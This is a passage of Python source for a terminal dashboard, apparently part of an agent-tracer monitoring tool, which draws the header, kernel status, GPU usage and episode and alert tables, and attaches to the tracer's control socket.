"""Terminal dashboard: ``agent-tracer top`` and the inline view of ``agent-tracer run``.

:func:`render` is a pure function of a :meth:`episode_tracer.state.State.snapshot`
dict and the terminal size: no I/O, no clock (ages are taken against the
snapshot's ``now``). It returns a rich renderable that is exactly as tall as
it may be (never taller than ``height``), so a ``Live(screen=True)`` can
redraw it in place without scrolling or flicker.

Layout, top to bottom::

    header      node, uptime, policy version, ENFORCE/MONITOR, scope
                events/s and total, lost events (red when non-zero), self-test
    sparkline   events/s over the last minute
    GPUs        one line per GPU, a compact summary when there are many,
                or one line saying why GPU watching is off
    episodes    table sorted as in the snapshot (recent alerts first);
                rows that do not fit: "… and N more episodes (M with alerts)"
    alerts      newest first, coloured by severity

At 160 columns and wider, episodes and alerts sit side by side. At narrow
widths the less important episode columns are dropped (GPU%, execs,
connects, GPU mem, procs, age, in that order) before the id is shortened.
"""
from __future__ import annotations

import dataclasses
import io
import math
import statistics
import threading
import time
from pathlib import Path
from typing import TYPE_CHECKING, Any, Callable, Sequence

import click
from rich.align import Align
from rich.console import Console, Group, RenderableType
from rich.panel import Panel
from rich.table import Table
from rich.text import Text

from . import paths

if TYPE_CHECKING:
    from .state import State

__all__ = [
    "render",
    "render_waiting",
    "run_top",
    "run_inline",
    "run_console",
    "TerminalKeys",
    "top_command",
    "measure_render",
    "synthetic_snapshot",
    "synthetic_state",
    "SEVERITY_STYLES",
]

SEVERITY_STYLES: dict[str, str] = {
    "info": "dim",
    "low": "none",
    "medium": "yellow",
    "high": "red",
    "critical": "bold white on red",
}
SEVERITY_LABELS = {"info": "INFO", "low": "LOW", "medium": "MED", "high": "HIGH", "critical": "CRIT"}
SEVERITY_ORDER = ("critical", "high", "medium", "low", "info")
STATE_STYLES = {"running": "green", "frozen": "bold cyan", "killed": "bold red", "ended": "dim"}
NON_ENFORCING_ACTIONS = frozenset({"allow", "continue", "alert", "log", "none", ""})
SIDE_BY_SIDE_WIDTH = 160
MIN_WIDTH = 40
MIN_HEIGHT = 8
BLOCKS = "▁▂▃▄▅▆▇█"
BAR_EIGHTHS = " ▏▎▍▌▋▊▉█"


# ---------------------------------------------------------------------- formatting helpers
def fmt_count(n: float | int | None) -> str:
    """12345 -> '12.3k', 1234567 -> '1.2M'; small numbers as they are."""
    if n is None:
        return "-"
    n = float(n)
    a = abs(n)
    if a < 10_000:
        return f"{n:,.0f}" if n == int(n) or a >= 100 else f"{n:,.1f}"
    if a < 1_000_000:
        return f"{n / 1000:.1f}k"
    if a < 1_000_000_000:
        return f"{n / 1e6:.1f}M"
    return f"{n / 1e9:.1f}G"


def fmt_duration(seconds: float | None) -> str:
    """42 -> '42s', 725 -> '12m05s', 11220 -> '3h07m', 187200 -> '2d04h'."""
    if seconds is None:
        return "-"
    s = max(0, int(seconds))
    if s < 60:
        return f"{s}s"
    if s < 3600:
        return f"{s // 60}m{s % 60:02d}s"
    if s < 86400:
        return f"{s // 3600}h{(s % 3600) // 60:02d}m"
    return f"{s // 86400}d{(s % 86400) // 3600:02d}h"


def fmt_mib(mib: float | None) -> str:
    if mib is None:
        return "-"
    if mib < 1024:
        return f"{mib:.0f}M"
    return f"{mib / 1024:.1f}G"


def fmt_clock(ts: float | None) -> str:
    if not isinstance(ts, (int, float)):
        return "--:--:--"
    return time.strftime("%H:%M:%S", time.localtime(ts))


def _line(*parts: str | tuple[str, str] | Text, width: int, style: str = "") -> Text:
    """One terminal line: never wraps, cut with an ellipsis at `width`."""
    text = Text(no_wrap=True, overflow="ellipsis", style=style)
    for part in parts:
        if isinstance(part, Text):
            text.append_text(part)
        elif isinstance(part, tuple):
            text.append(part[0], style=part[1])
        else:
            text.append(part)
    text.truncate(width, overflow="ellipsis")
    return text


def _lines(lines: Sequence[Text]) -> RenderableType:
    """Stack one-line Texts; rendered as exactly len(lines) lines."""
    out = Text(no_wrap=True, overflow="ellipsis")
    for i, line in enumerate(lines):
        if i:
            out.append("\n")
        out.append_text(line)
    return out


def sparkline(values: Sequence[float], width: int) -> Text:
    """Unicode-block sparkline of the last `width` values, scaled to their peak."""
    vals = list(values)[-width:] if width > 0 else []
    peak = max(vals) if vals else 0
    text = Text(no_wrap=True, end="")
    for v in vals:
        if not v or v <= 0 or peak <= 0:
            text.append(BLOCKS[0], style="dim")
        else:
            idx = max(1, min(len(BLOCKS) - 1, math.ceil(v / peak * (len(BLOCKS) - 1))))
            text.append(BLOCKS[idx], style="cyan")
    return text


def _fit(s: str, width: int) -> str:
    """`s` padded or cut (with an ellipsis) to exactly `width` cells."""
    if len(s) <= width:
        return s.ljust(width)
    return s[: max(0, width - 1)] + "…"


def _bar(fraction: float, width: int) -> str:
    fraction = min(max(fraction, 0.0), 1.0)
    eighths = int(round(fraction * width * 8))
    full, rem = divmod(eighths, 8)
    s = "█" * full + (BAR_EIGHTHS[rem] if rem and full < width else "")
    return s.ljust(width)


# ---------------------------------------------------------------------- sections
def _header(snap: dict[str, Any], width: int) -> list[Text]:
    mode = str(snap.get("mode") or "?")
    if mode == "enforce":
        mode_part = (" ENFORCE ", "bold white on green")
    elif mode == "monitor":
        mode_part = (" MONITOR ", "bold black on yellow")
    else:
        mode_part = (f" {mode.upper()} ", "bold white on magenta")
    sep = (" │ ", "dim")
    line1 = _line(
        (" agent-tracer ", "bold white on blue"),
        " ",
        mode_part,
        sep,
        ("node ", "dim"), (str(snap.get("node") or "?"), "bold"),
        sep,
        ("up ", "dim"), fmt_duration(snap.get("uptime_s")),
        sep,
        ("policy ", "dim"), (str(snap.get("policy_version") or "?"), "bold"),
        sep,
        ("scope ", "dim"), str(snap.get("scope") or "?"),
        width=width,
    )

    compact = width < 120
    lost = int(snap.get("lost_total") or 0)
    if lost and compact:
        lost_part = Text(f"LOST {fmt_count(lost)}", style="bold red")
    elif lost:
        by_kind = snap.get("lost_by_kind") or {}
        detail = ", ".join(
            f"{k} {fmt_count(v)}" for k, v in sorted(by_kind.items(), key=lambda kv: -kv[1]) if v
        )
        lost_part = Text(f"LOST {fmt_count(lost)}" + (f" ({detail})" if detail else ""), style="bold red")
    else:
        lost_part = Text("lost 0", style="green")

    line2 = _line(
        ("events ", "dim"), (f"{fmt_count(snap.get('events_per_s') or 0)}/s", "bold"),
        (f" ({fmt_count(snap.get('events_total') or 0)} total)", "dim"),
        sep,
        lost_part,
        sep,
        _selftest_text(snap.get("selftest") or {}, compact),
        width=width,
    )
    return [line1, line2]


def _kernel_line(snap: dict[str, Any], width: int) -> Text:
    """What the kernel is doing: programs attached, holds per second, held right now, policy reload."""
    sep = (" │ ", "dim")
    progs = [str(p) for p in (snap.get("programs") or [])]
    n_cg = sum(1 for p in progs if p.startswith("cgroup"))
    n_tp = len(progs) - n_cg
    holds = snap.get("holds_per_s") or {}
    held = int(snap.get("held_now") or 0)
    parts: list[Any] = [("kernel ", "dim")]
    if width < 100:                                  # 80 columns: the same facts, shorter
        reload = snap.get("reload")
        if isinstance(reload, dict) and reload.get("status") == "refused":
            rel = ("reload REFUSED", "bold red")
        elif isinstance(reload, dict):
            rel = (f"reloaded {fmt_clock(reload.get('ts'))}", "green")
        else:
            rel = ("policy: as started", "dim")
        return _line(("kernel ", "dim"), (f"{len(progs)} progs", "bold"), sep,
                     ("gate ", "dim"), f"{fmt_count(holds.get('gated') or 0)}/s",
                     (" wire ", "dim"), f"{fmt_count(holds.get('wire_held') or 0)}/s", sep,
                     (f"HELD NOW {held}", "bold yellow") if held else ("held 0", "dim"), sep, rel, width=width)
    if progs:
        parts.append((f"{len(progs)} programs", "bold"))
        parts.append((f" ({n_tp} tracepoints, {n_cg} cgroup)" if width >= 100 else "", "dim"))
    else:
        parts.append(("programs: -", "dim"))
    parts += [sep, ("gate holds ", "dim"), f"{fmt_count(holds.get('gated') or 0)}/s",
              sep, ("wire holds ", "dim"), f"{fmt_count(holds.get('wire_held') or 0)}/s",
              sep, (f"HELD NOW {held}", "bold yellow") if held else ("held now 0", "dim")]
    reload = snap.get("reload")
    parts.append(sep)
    if isinstance(reload, dict) and reload.get("status") == "refused":
        errs = reload.get("errors") or []
        parts.append((f"reload REFUSED {fmt_clock(reload.get('ts'))}, kept {reload.get('policy_version')}"
                      + (f": {errs[0]}" if errs else ""), "bold red"))
    elif isinstance(reload, dict):
        parts.append((f"policy reloaded {fmt_clock(reload.get('ts'))}", "green"))
    else:
        parts.append(("policy as loaded at start", "dim"))
    selftest = snap.get("selftest") or {}
    if width >= SIDE_BY_SIDE_WIDTH and selftest:     # wide: every enforcement path the self-test proved
        parts.append(sep)
        parts.append(("paths ", "dim"))
        for i, (k, v) in enumerate(selftest.items()):
            ok = str(v).startswith("ok")
            parts.append((("" if not i else " ") + k + (" ✓" if ok else " ✗"),
                          "green" if ok else ("yellow" if str(v).startswith("skipped") else "bold red")))
    return _line(*parts, width=width)


def _selftest_text(selftest: dict[str, str], compact: bool = False) -> Text:
    """Enforcement self-test: failures first (red), then skipped (yellow), then the ok count."""
    if not selftest:
        return Text("self-test: pending", style="dim")
    failed = [(k, str(v)) for k, v in selftest.items() if not str(v).startswith(("ok", "skipped"))]
    skipped = [(k, str(v)) for k, v in selftest.items() if str(v).startswith("skipped")]
    ok = [k for k, v in selftest.items() if str(v).startswith("ok")]
    if not failed and not skipped:
        return Text(f"self-test: all {len(ok)} ok", style="green")
    text = Text("self-test: ")
    items: list[tuple[str, str]] = []
    for k, v in failed:
        if compact:
            items.append((f"FAILED {k}", "bold red"))
        else:
            items.append((f"{k} " + ("FAILED" + v[len("failed"):] if v.startswith("failed") else f"FAILED: {v}"), "bold red"))
    for k, v in skipped:
        items.append((f"skipped {k}" if compact else f"{k} {v}", "yellow"))
    if ok:
        items.append((f"{len(ok)} ok", "green"))
    for i, (s, st) in enumerate(items):
        if i:
            text.append(", ", style="dim")
        text.append(s, style=st)
    return text


def _spark_line(snap: dict[str, Any], width: int) -> Text:
    history = list(snap.get("rate_history") or [])
    peak = max(history) if history else 0
    now_rate = snap.get("events_per_s") or 0
    label = "events/s "
    tail = f" now {fmt_count(now_rate)}  peak {fmt_count(peak)}  (last {len(history)}s)"
    room = max(0, width - len(label) - len(tail))
    return _line((label, "dim"), sparkline(history, min(room, len(history))), (tail, "dim"), width=width)


def _gpu_lines(snap: dict[str, Any], width: int, max_lines: int) -> list[Text]:
    gpus = [g for g in (snap.get("gpus") or []) if isinstance(g, dict)]
    status = str(snap.get("gpu_status") or "unknown")
    if not gpus:
        if status == "ok":
            return [_line(("GPU: ", "bold"), ("no GPUs reported", "dim"), width=width)]
        return [_line(("GPU: ", "bold"), (f"off: {status}", "yellow"), width=width)]
    max_lines = max(1, max_lines)
    if len(gpus) <= max_lines:
        out = []
        name_w = max(len(str(g.get("name") or "")) for g in gpus)
        name_w = min(name_w, 24 if width >= 100 else 0)
        for g in gpus:
            util = g.get("util")
            used, total = g.get("mem_used_mib"), g.get("mem_total_mib")
            power = g.get("power_w")
            bar_w = 10 if width >= 100 else 5
            parts: list[Any] = [(f"GPU{g.get('index', '?')} ", "bold")]
            if name_w:
                parts.append((str(g.get("name") or "").ljust(name_w)[:name_w] + " ", "dim"))
            if isinstance(util, (int, float)):
                ustyle = "red" if util >= 90 else "yellow" if util >= 50 else "green"
                parts += [("util ", "dim"), (f"{util:3.0f}% ", ustyle), (_bar(util / 100, bar_w), ustyle)]
            else:
                parts += [("util    - ", "dim"), " " * bar_w]
            if isinstance(used, (int, float)) and isinstance(total, (int, float)) and total:
                frac = used / total
                mstyle = "red" if frac >= 0.9 else "yellow" if frac >= 0.5 else "green"
                parts += [("  mem ", "dim"), (f"{used / 1024:5.1f}/{total / 1024:.1f} GiB ", mstyle),
                          (_bar(frac, bar_w), mstyle)]
            elif isinstance(used, (int, float)):
                parts += [("  mem ", "dim"), f"{used / 1024:.1f} GiB"]
            if isinstance(power, (int, float)):
                parts += [("  power ", "dim"), f"{power:.0f} W"]
            out.append(_line(*parts, width=width))
        return out
    # compact: several GPUs per line
    cells = []
    for g in gpus:
        util = g.get("util")
        used, total = g.get("mem_used_mib"), g.get("mem_total_mib")
        u = f"{util:.0f}%" if isinstance(util, (int, float)) else "-"
        m = f"{used / 1024:.0f}/{total / 1024:.0f}G" if isinstance(used, (int, float)) and isinstance(total, (int, float)) else "-"
        style = "red" if isinstance(util, (int, float)) and util >= 90 else ""
        cells.append((f"GPU{g.get('index', '?')} {u} {m}", style))
    out = []
    cur = Text(no_wrap=True, end="")
    i = 0
    while i < len(cells):
        cell, style = cells[i]
        add = ("  " if cur.plain else "") + cell
        if cur.plain and len(cur.plain) + len(add) > width:
            if len(out) == max_lines - 1:
                break
            out.append(cur)
            cur = Text(no_wrap=True, end="")
            continue
        if cur.plain:
            cur.append("  ")
        cur.append(cell, style=style)
        i += 1
    if i < len(cells):
        more = f"  … +{len(cells) - i} GPUs"
        cur.truncate(max(0, width - len(more)))
        cur.append(more, style="dim")
    out.append(cur)
    return [_line(t, width=width) for t in out[:max_lines]]


# episode columns: key, header, width, justify, drop order (higher is dropped first; 0 never)
_EP_COLUMNS: tuple[tuple[str, str, int, str, int], ...] = (
    ("id", "EPISODE", 0, "left", 0),
    ("state", "STATE", 7, "left", 0),
    ("procs", "PROCS", 5, "right", 2),
    ("execs", "EXECS", 6, "right", 5),
    ("connects", "CONNS", 6, "right", 4),
    ("alerts", "ALERTS", 6, "right", 0),
    ("cpu", "CPU%", 5, "right", 3),
    ("gpu_mem", "GPU MEM", 7, "right", 3),
    ("gpu_util", "GPU%", 4, "right", 6),
    ("age", "AGE", 6, "right", 1),
)
_ID_MIN, _ID_MAX = 10, 40


def _episode_columns(width: int, id_len: int, with_gpu: bool,
                     with_cpu: bool = False) -> tuple[list[tuple[str, str, int, str, int]], int]:
    cols = [c for c in _EP_COLUMNS if (with_gpu or not c[0].startswith("gpu_")) and (with_cpu or c[0] != "cpu")]
    id_w = min(max(id_len, _ID_MIN), _ID_MAX)

    def total(cs: list[tuple[str, str, int, str, int]], idw: int) -> int:
        return idw + sum(c[2] for c in cs if c[0] != "id") + 2 * (len(cs) - 1)

    for drop in sorted({c[4] for c in cols if c[4]}, reverse=True):
        if total(cols, id_w) <= width:
            break
        cols = [c for c in cols if c[4] != drop]
    over = total(cols, id_w) - width
    if over > 0:
        id_w = max(4, id_w - over)
    return cols, id_w


def _episode_section(snap: dict[str, Any], width: int, height: int, view: Any = None) -> list[RenderableType]:
    """Title line + table (+ overflow line); exactly <= `height` lines.

    With a `view` (episode_tracer/topview.py): its filter and sort apply, the selected
    episode is highlighted and the rows shown are a window that contains it."""
    all_episodes = [e for e in (snap.get("episodes") or []) if isinstance(e, dict)]
    episodes = all_episodes
    if view is not None:
        from .topview import visible_episodes

        episodes = visible_episodes(snap, view)
    now = snap.get("now")
    counts: dict[str, int] = {}
    for e in episodes:
        counts[str(e.get("state"))] = counts.get(str(e.get("state")), 0) + 1
    title = Text(" Episodes ", style="bold reverse", end="")
    title.append(f" {len(episodes)}", style="bold")
    for st in ("running", "frozen", "killed", "ended"):
        if counts.get(st):
            title.append(f"  {counts[st]} {st}", style=STATE_STYLES[st])
    dropped = (snap.get("retention") or {}).get("dropped")
    if dropped:
        title.append(f"  ({dropped} older ended dropped from view)", style="dim")
    if view is not None:
        from .topview import SORT_LABELS

        title.append(f"   sort: {SORT_LABELS.get(view.sort, view.sort)}", style="dim")
        if view.filter:
            title.append(f"   filter \"{view.filter}\": {len(episodes)} of {len(all_episodes)}", style="bold yellow")
    out: list[RenderableType] = [_line(title, width=width)]
    rows_room = height - 2                       # title and the table's header line
    if not episodes or rows_room < 1:
        if height >= 2:
            if not all_episodes:
                msg = "no episodes yet (start one with: agent-tracer episode run --id ID -- CMD)"
            elif not episodes:
                msg = "no episode matches the filter (Esc clears it)"
            else:
                msg = ""
            out.append(_line((msg, "dim"), width=width))
        return out[:height]
    sel = -1
    start = 0
    if view is not None and view.selected is not None:
        ids = [str(e.get("id")) for e in episodes]
        sel = ids.index(view.selected) if view.selected in ids else -1
    if len(episodes) <= rows_room:
        shown, hidden = episodes, []
    else:
        fit = rows_room - 1
        if sel >= fit:                           # a window that keeps the selection in sight
            start = min(sel - fit // 2, len(episodes) - fit)
        shown, hidden = episodes[start: start + fit], episodes[start + fit:]
        if start:
            hidden = episodes[:start] + hidden

    with_gpu = bool(snap.get("gpus")) or any(e.get("gpu_mem_mib") is not None for e in episodes)
    id_len = max((len(str(e.get("id"))) for e in shown), default=8)
    with_cpu = any(e.get("cpu_pct") is not None for e in episodes)   # measured by the tracer (episode_tracer/cpu.py)
    cols, id_w = _episode_columns(width, id_len, with_gpu, with_cpu)
    table = Table(
        box=None, padding=(0, 1), pad_edge=False, show_edge=False, expand=False,
        header_style="bold", show_header=True, collapse_padding=False,
    )
    for key, header, w, justify, _prio in cols:
        table.add_column(header, width=id_w if key == "id" else w, justify=justify,  # type: ignore[arg-type]
                         no_wrap=True, overflow="ellipsis")
    for e in shown:
        state = str(e.get("state") or "?")
        ended = state == "ended"
        row: list[Text] = []
        for key, *_rest in cols:
            if key == "id":
                cell = Text(str(e.get("id")), style="dim" if ended else "bold")
            elif key == "state":
                if e.get("held"):                    # a gated exec or held flow awaits its verdict
                    cell = Text("HELD", style="bold black on yellow")
                else:
                    cell = Text(state, style=STATE_STYLES.get(state, ""))
            elif key == "procs":
                cell = Text(fmt_count(e.get("processes") or 0))
            elif key == "execs":
                cell = Text(fmt_count(e.get("execs") or 0))
            elif key == "connects":
                cell = Text(fmt_count(e.get("connects") or 0))
            elif key == "alerts":
                n = e.get("alerts") or 0
                cell = Text(fmt_count(n), style="bold red" if n and not ended else ("red" if n else "dim"))
            elif key == "cpu":
                c = e.get("cpu_pct")
                cell = Text(f"{c:.0f}" if isinstance(c, (int, float)) else "-", style="" if c is not None else "dim")
            elif key == "gpu_mem":
                mem = e.get("gpu_mem_mib")
                cell = Text(fmt_mib(mem), style="" if mem is not None else "dim")
            elif key == "gpu_util":
                u = e.get("gpu_util")
                cell = Text(f"{u:.0f}" if isinstance(u, (int, float)) else "-", style="" if u is not None else "dim")
            else:  # age
                started = e.get("started")
                age = (now - started) if isinstance(now, (int, float)) and isinstance(started, (int, float)) else None
                cell = Text(fmt_duration(age), style="dim")
            if ended:
                cell.stylize("dim")
            row.append(cell)
        selected = view is not None and start + len(table.rows) == sel
        table.add_row(*row, style=("reverse" if view.focus == "episodes" else "underline") if selected else None)
    out.append(table)
    if hidden:
        with_alerts = sum(1 for e in hidden if e.get("alerts"))
        out.append(_line(
            (f"… and {len(hidden)} more episodes" + (f" (rows {start + 1}-{start + len(shown)} shown)" if start else ""),
             "bold"),
            (f" ({with_alerts} with alerts)", "red" if with_alerts else "dim"),
            width=width,
        ))
    return out


def _action_text(alert: dict[str, Any], mode: str) -> Text:
    action = str(alert.get("action") or "alert")
    would = alert.get("would")
    if alert.get("enforced"):
        return Text.assemble((action, "bold"), " enforced")
    if isinstance(would, str) and would:
        return Text(f"would: {would}", style="italic")
    if would is True or (mode == "monitor" and action not in NON_ENFORCING_ACTIONS):
        return Text(f"would: {action}", style="italic")
    if action in NON_ENFORCING_ACTIONS:
        return Text(action)
    return Text(f"{action} NOT enforced", style="bold")


def _alert_detail(alert: dict[str, Any]) -> str:
    parts = []
    pid = alert.get("pid")
    if pid is not None:
        parts.append(f"pid {pid}")
    argv = alert.get("argv")
    if isinstance(argv, list) and argv:
        parts.append(" ".join(str(a) for a in argv))
    elif alert.get("exe"):
        parts.append(str(alert.get("exe")))
    matched = alert.get("matched")
    if isinstance(matched, dict) and matched:
        parts.append(" ".join(f"{k}={v}" for k, v in list(matched.items())[:4]))
    elif matched:
        parts.append(str(matched))
    return "  ".join(parts)


def _alert_section(snap: dict[str, Any], width: int, height: int, view: Any = None) -> list[Text]:
    alerts = [a for a in (snap.get("alerts") or []) if isinstance(a, dict)]
    newest: list[dict[str, Any]] = alerts[::-1]
    if view is not None:
        from .topview import visible_alerts

        newest = visible_alerts(snap, view)
    mode = str(snap.get("mode") or "")
    title = Text(" Alerts ", style="bold reverse", end="")
    total = snap.get("alerts_total", len(alerts))
    title.append(f" {fmt_count(total)}", style="bold")
    sev_counts: dict[str, int] = {}
    for a in alerts:
        sev = str(a.get("severity") or "info")
        sev_counts[sev] = sev_counts.get(sev, 0) + 1
    for sev in SEVERITY_ORDER:
        if sev_counts.get(sev):
            title.append(f"  {sev_counts[sev]} {sev}", style=SEVERITY_STYLES[sev])
    if alerts:
        title.append("   newest first", style="dim")
    focused = view is not None and view.focus == "alerts"
    if view is not None and view.filter:
        title.append(f"   filter \"{view.filter}\": {len(newest)} shown", style="bold yellow")
    if focused:
        title.append("   focused: ↑↓ select, Enter shows it whole, a/Esc back", style="bold cyan")
    out = [_line(title, width=width)]
    room = height - 1
    if room < 1:
        return out[:height]
    if not newest:
        out.append(_line(("no alerts" if not alerts else "no alert matches the filter", "dim"), width=width))
        return out
    start = 0
    sel = view.alert_index if focused else -1
    if sel >= room:
        start = min(sel - room // 2, len(newest) - room)
    visible = newest[start: start + room]
    rule_w = min(max(len(str(a.get("rule") or "")) for a in visible), 28 if width >= 100 else 22)
    ep_w = min(max(len(str(a.get("episode") or "-")) for a in visible), 28 if width >= 100 else 18)
    for a in visible:
        sev = str(a.get("severity") or "info")
        style = SEVERITY_STYLES.get(sev, "")
        line = Text(no_wrap=True, overflow="ellipsis", style=style)
        line.append(fmt_clock(a.get("ts")) + " ")
        line.append(SEVERITY_LABELS.get(sev, sev.upper()[:4]).ljust(4) + " ", style="bold")
        line.append(_fit(str(a.get("rule") or "?"), rule_w) + " ")
        line.append(_fit(str(a.get("episode") or "-"), ep_w) + " ")
        line.append_text(_action_text(a, mode))
        detail = _alert_detail(a)
        if detail:
            line.append("  " + detail, style="dim" if sev != "critical" else "")
        line.truncate(width, overflow="ellipsis")
        if focused and start + len(out) - 1 == sel:
            line.stylize("reverse")
        out.append(line)
    return out


# ---------------------------------------------------------------------- render
def render(snapshot: dict[str, Any], width: int, height: int, view: Any = None,
           detail: dict[str, Any] | None = None) -> RenderableType:
    """The whole dashboard for `snapshot`, at most `height` lines of `width` columns. Pure.

    With a `view` (episode_tracer/topview.py, `agent-tracer top`): the screen it is on
    (main list, episode detail from `detail`, one alert whole, help), the
    selection, filter, sort, and a footer with the keys, the last action's
    result or the kill prompt."""
    width = max(int(width), MIN_WIDTH)
    height = max(int(height), MIN_HEIGHT)
    snap = snapshot if isinstance(snapshot, dict) else {}
    if view is not None and view.screen != "main":
        from .topscreens import render_screen

        return render_screen(snap, view, detail, width, height)
    footer: list[Text] = []
    if view is not None:
        from .topscreens import footer_lines

        footer = footer_lines(snap, view, detail, width)
        height -= len(footer)
    top: list[Text] = _header(snap, width)
    if height >= 16:                                  # small terminals: no kernel strip
        top.append(_kernel_line(snap, width))
    if height >= 14:                                  # tiny terminals: no sparkline
        top.append(_spark_line(snap, width))
    gpu_room = max(1, min(16, (height - len(top) - 8) // 3))
    top.extend(_gpu_lines(snap, width, gpu_room))
    room = height - len(top)

    n_eps = len(snap.get("episodes") or [])
    n_alerts = len(snap.get("alerts") or [])
    parts: list[RenderableType] = [_lines(top)]
    if width >= SIDE_BY_SIDE_WIDTH:
        left_w = int(width * 0.56)
        right_w = width - left_w - 2
        grid = Table.grid(padding=(0, 2), expand=False)
        grid.add_column(width=left_w, no_wrap=True)
        grid.add_column(width=right_w, no_wrap=True)
        grid.add_row(
            Group(*_episode_section(snap, left_w, room, view)),
            _lines(_alert_section(snap, right_w, room, view)),
        )
        parts.append(grid)
    else:
        rows = room - 3                              # episode title + header, alert title
        if view is not None:
            from .topview import visible_alerts, visible_episodes

            n_eps = len(visible_episodes(snap, view))
            n_alerts = len(visible_alerts(snap, view))
        ep_want = max(1, n_eps)
        al_want = max(1, n_alerts)
        if rows < 2:                                 # tiny terminals: no alert rows
            ep_rows, al_rows = max(rows, 0), 0
        elif ep_want + al_want <= rows:
            ep_rows, al_rows = ep_want, al_want      # the rest stays blank at the bottom
        else:
            al_rows = min(al_want, max(rows - ep_want, (rows * 2) // 5, 1))
            ep_rows = max(1, rows - al_rows)
            if ep_rows > ep_want:
                al_rows += ep_rows - ep_want
                ep_rows = ep_want
        parts.extend(_episode_section(snap, width, ep_rows + 2, view))
        parts.append(_lines(_alert_section(snap, width, al_rows + 1, view)))
    if footer:
        return Group(_Fixed(Group(*parts), height), _lines(footer))
    return Group(*parts)


class _Fixed:
    """`renderable` cropped or padded to exactly `height` lines (the footer stays on the last line)."""

    def __init__(self, renderable: RenderableType, height: int) -> None:
        self.renderable = renderable
        self.height = height

    def __rich_console__(self, console: Console, options: Any):
        from rich.segment import Segment

        lines = console.render_lines(self.renderable, options.update(height=self.height), pad=True)
        for line in lines[: self.height]:
            yield from line
            yield Segment.line()


def render_waiting(socket_path: str, detail: str, retry_in: float, width: int, height: int) -> RenderableType:
    """The screen shown while no tracer answers on `socket_path`. Pure."""
    width = max(int(width), MIN_WIDTH)
    height = max(int(height), 5)
    headline = f"tracer not running at {socket_path} — retrying in {max(0, math.ceil(retry_in))}s"
    hint = "start it with: sudo agent-tracer run    ·    Ctrl-C to quit"
    body = Text(justify="center")
    body.append(headline, style="bold yellow")
    if detail:
        body.append("\n" + detail, style="dim")
    body.append("\n" + hint, style="dim")
    panel_w = min(width, max(len(hint), len(headline), len(detail)) + 4)
    panel = Panel(body, title="agent-tracer top", border_style="yellow", width=panel_w)
    return Align.center(panel, vertical="middle", height=height, width=width)


# ---------------------------------------------------------------------- live views
def _apply_alert(snap: dict[str, Any], alert: dict[str, Any]) -> None:
    alerts = snap.setdefault("alerts", [])
    alert = {k: v for k, v in alert.items() if k != "type"}
    alerts.append(alert)
    if len(alerts) > 200:
        del alerts[: len(alerts) - 200]
    snap["alerts_total"] = int(snap.get("alerts_total") or 0) + 1


class _Screen:
    """A Live screen on a terminal; sequential frames on anything else (pipes, tests)."""

    def __init__(self, console: Console) -> None:
        self.console = console
        self.live = None
        if console.is_terminal:
            from rich.live import Live
            self.live = Live(console=console, screen=True, auto_refresh=False,
                             redirect_stdout=False, redirect_stderr=False, transient=True)

    def __enter__(self) -> "_Screen":
        if self.live is not None:
            self.live.start()
        return self

    def __exit__(self, *exc: object) -> None:
        if self.live is not None:
            self.live.stop()

    @property
    def size(self) -> tuple[int, int]:
        w, h = self.console.size
        return w, h

    def show(self, renderable: RenderableType) -> None:
        if self.live is not None:
            self.live.update(renderable, refresh=True)
        else:
            self.console.print(renderable)


def run_top(
    socket_path: str | Path = paths.CONTROL_SOCKET,
    refresh: float = 1.0,
    console: Console | None = None,
    *,
    retry_s: float = 3.0,
    max_iterations: int | None = None,
    stop_event: threading.Event | None = None,
) -> int:
    """Attach to the tracer's control socket and show the dashboard until Ctrl-C.

    While no tracer answers, a "tracer not running at PATH — retrying in Ns"
    screen is shown and the connection is retried forever. `max_iterations`
    (frames drawn) and `stop_event` end the loop early (tests, embedding).
    Returns 0.
    """
    from .control import ControlClient, ControlError, ControlPermissionError, TracerNotRunning

    console = console or Console()
    stop = stop_event or threading.Event()
    client = ControlClient(str(socket_path), timeout=5.0)
    frames = 0

    def frame(screen: _Screen, renderable_fn: Callable[[int, int], RenderableType]) -> bool:
        nonlocal frames
        w, h = screen.size
        screen.show(renderable_fn(w, h))
        frames += 1
        return max_iterations is not None and frames >= max_iterations

    try:
        with _Screen(console) as screen:
            while not stop.is_set():
                detail = ""
                try:
                    stream = client.subscribe(interval=refresh)
                    snap: dict[str, Any] | None = None
                    last_draw = 0.0
                    for msg in stream:
                        kind = msg.get("type")
                        if kind == "snapshot":
                            snap = msg
                        elif kind == "alert" and snap is not None:
                            _apply_alert(snap, msg)
                            if time.monotonic() - last_draw < min(0.25, refresh):
                                continue          # alert storms: at most 4 redraws a second
                        elif kind == "dropped" or snap is None:
                            continue
                        else:
                            continue
                        last_draw = time.monotonic()
                        current = snap
                        if frame(screen, lambda w, h: render(current, w, h)):
                            stream.close()
                            return 0
                        if stop.is_set():
                            stream.close()
                            return 0
                except TracerNotRunning as exc:
                    detail = exc.detail
                except ControlPermissionError as exc:
                    detail = str(exc)
                except ControlError as exc:
                    detail = str(exc)
                # not running (or stopped): count down, then retry
                deadline = time.monotonic() + retry_s
                while not stop.is_set():
                    left = deadline - time.monotonic()
                    if left <= 0:
                        break
                    if frame(screen, lambda w, h: render_waiting(str(socket_path), detail, left, w, h)):
                        return 0
                    stop.wait(left - (math.ceil(left) - 1))   # until the shown count changes
    except KeyboardInterrupt:
        pass
    return 0


class TerminalKeys:
    """Keys from the terminal on `fd` in cbreak mode (no echo, no line buffering;
    Ctrl-C still interrupts); the terminal's settings are restored on exit."""

    ESC_WAIT_S = 0.05          # a lone ESC followed by nothing this long is the Esc key

    def __init__(self, fd: int) -> None:
        self.fd = fd
        self._saved: Any = None
        self._pending = ""

    def __enter__(self) -> "TerminalKeys":
        import termios
        import tty

        self._saved = termios.tcgetattr(self.fd)
        tty.setcbreak(self.fd, termios.TCSANOW)
        return self

    def __exit__(self, *exc: object) -> None:
        import termios

        if self._saved is not None:
            termios.tcsetattr(self.fd, termios.TCSADRAIN, self._saved)
            self._saved = None

    def read(self, timeout: float) -> list[str]:
        import os
        import select

        from .topview import finish_pending, parse_keys

        ready, _, _ = select.select([self.fd], [], [], timeout)
        if not ready:
            if self._pending:
                keys, self._pending = finish_pending(self._pending), ""
                return keys
            return []
        data = os.read(self.fd, 1024)
        if not data:                           # the terminal went away
            return ["q"]
        keys, self._pending = parse_keys(self._pending + data.decode("utf-8", "replace"))
        if self._pending:
            more, _, _ = select.select([self.fd], [], [], self.ESC_WAIT_S)
            if not more:
                keys += finish_pending(self._pending)
                self._pending = ""
        return keys


class _Subscription(threading.Thread):
    """Reads the tracer's snapshot/alert stream into a queue; reconnects after `retry_s`."""

